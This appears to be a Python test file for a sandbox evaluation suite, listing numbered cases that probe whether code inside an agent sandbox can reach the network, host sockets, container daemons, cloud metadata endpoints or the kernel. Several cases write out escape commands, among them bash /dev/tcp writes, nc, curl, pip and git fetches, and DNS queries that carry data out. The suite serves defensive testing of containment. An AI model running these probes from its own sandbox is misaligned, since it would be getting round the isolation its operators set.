"""Attacks that want to talk to someone: SandboxEval's external communication."""

from __future__ import annotations

from functools import partial

from tests.agents.sandbox.abuse.case import Case

_case = partial(Case, category="external communication")

CASES = (
    _case(
        number=5,
        name="TCP to the host's loopback",
        leaks_outside=True,
        code="""attempt("tcp", lambda: connected(socket.AF_INET, ("127.0.0.1", HOST["port"])))""",
    ),
    _case(
        number=6,
        name="TCP, UDP and names of the world outside",
        code="""
for address in ("192.0.2.1", "198.51.100.7", "203.0.113.9"):
    attempt(address, lambda: connected(socket.AF_INET, (address, 443)))
    attempt(address, lambda: connected(socket.AF_INET, (address, 53), socket.SOCK_DGRAM))
attempt("name", lambda: socket.getaddrinfo("example.org", 443))
attempt("broadcast", lambda: connected(socket.AF_INET, ("255.255.255.255", 9), socket.SOCK_DGRAM))
""",
    ),
    _case(
        number=7,
        name="sockets by path, those of Docker and the desktop too",
        leaks_outside=True,
        code="""
others = ["/var/run/docker.sock", "/run/docker.sock", "/run/podman/podman.sock", "/run/dbus/system_bus_socket", "/tmp/.X11-unix/X0", "/run/systemd/private", "/run/containerd/containerd.sock", *glob.glob("/run/user/*/*"), *glob.glob("/tmp/ssh-*/agent.*")]
for path in [HOST["socket"], *(others if HOST["walled"] else [])]:
    attempt(path, lambda: connected(socket.AF_UNIX, path))
""",
    ),
    _case(
        number=8,
        name="an abstract socket",
        leaks_outside=True,
        code="""
attempt("stream", lambda: connected(socket.AF_UNIX, chr(0) + HOST["abstract"]))
attempt("X11", lambda: HOST["walled"] and connected(socket.AF_UNIX, chr(0) + "/tmp/.X11-unix/X0"))
""",
    ),
    _case(
        number=9,
        name="virtual machine, packet, crypto and raw sockets",
        code="""
for name in ("AF_PACKET", "AF_VSOCK", "AF_ALG", "AF_BLUETOOTH", "AF_CAN", "AF_TIPC", "AF_RDS", "AF_KEY"):
    family = getattr(socket, name, -1)
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_SEQPACKET):
        attempt(name, lambda: socket.socket(family, kind).close())
for family, number in ((socket.AF_INET, 1), (socket.AF_INET, 255), (socket.AF_INET6, 58)):
    attempt("raw", lambda: socket.socket(family, socket.SOCK_RAW, number).close())
""",
    ),
    _case(
        number=49,
        name="a package or a file is fetched",
        language="sh",
        code="""
timeout 5 python3 -m pip install --quiet --target /tmp/p six && echo LEAK pip
for tool in curl wget; do timeout 5 $tool http://127.0.0.1:$PORT/ && echo LEAK $tool; done 2>&1
timeout 5 git clone https://example.org/x /tmp/x && echo LEAK git
timeout 5 python3 -c "import urllib.request; urllib.request.urlopen('http://127.0.0.1:$PORT', timeout=2)" && echo LEAK urllib
true
""",
    ),
    _case(
        number=59,
        name="metadata of the cloud",
        code="""
for address in ("169.254.169.254", "169.254.170.2", "100.100.100.200"):
    attempt(address, lambda: connected(socket.AF_INET, (address, 80)))
attempt("IPv6", lambda: connected(socket.AF_INET6, ("fd00:ec2::254", 80)))
""",
    ),
    _case(
        number=60,
        name="IPv6 loopback",
        leaks_outside=True,
        code="""
attempt("::1", lambda: connected(socket.AF_INET6, ("::1", HOST["port6"])))
attempt("mapped", lambda: connected(socket.AF_INET6, ("::ffff:127.0.0.1", HOST["port"])))
""",
    ),
    _case(
        number=61,
        name="data sent away as DNS queries, by UDP and TCP",
        leaks_outside=True,
        code="""
query = bytes.fromhex("123401000001000000000000") + b"\\x06secret\\x07example\\x03org\\x00\\x00\\x01\\x00\\x01"
def asked(port, kind):
    with socket.socket(socket.AF_INET, kind) as sock:
        sock.settimeout(1)
        sock.connect(("127.0.0.1", port))
        return sock.send(query)
attempt("udp", lambda: asked(HOST["udp"], socket.SOCK_DGRAM))
attempt("tcp", lambda: asked(HOST["port"], socket.SOCK_STREAM))
""",
    ),
    _case(
        number=62,
        name="every socket that /proc/net/unix tells of",
        leaks_outside=True,
        code="""
for line in open("/proc/net/unix").read().splitlines()[1:]:
    name = line.split(" ")[-1]
    if name.startswith(("@", "/")) and (HOST["walled"] or name in (HOST["socket"], "@" + HOST["abstract"])):
        attempt(name, lambda: connected(socket.AF_UNIX, name.replace("@", chr(0), 1)))
""",
    ),
    _case(
        number=63,
        name="network by the shell's own means",
        language="sh",
        code="""
(timeout 2 bash -c "echo escaped > /dev/tcp/127.0.0.1/$PORT") && echo LEAK bash tcp
(timeout 2 bash -c "echo escaped > /dev/udp/127.0.0.1/$UDP") && echo LEAK bash udp
(timeout 2 perl -MIO::Socket::INET -e 'IO::Socket::INET->new(PeerAddr => "127.0.0.1:'$PORT'", Timeout => 1) or exit 1') && echo LEAK perl
for tool in "ping -c1 -W1 127.0.0.1" "nc -w1 127.0.0.1 $PORT" "ssh -oBatchMode=yes 127.0.0.1 true" "getent hosts example.org" "ip link set lo down"; do
  timeout 3 $tool </dev/null >/dev/null && echo "LEAK $tool"
done
true
""",
    ),
    _case(
        number=64,
        name="conversations with the kernel over netlink",
        code="""
for protocol in (0, 4, 9, 15, 16):  # routes, sock_diag, audit, uevents, generic
    attempt(protocol, lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, protocol).close())
attempt("pair", lambda: socket.socketpair(socket.AF_NETLINK, socket.SOCK_DGRAM))
""",
    ),
)
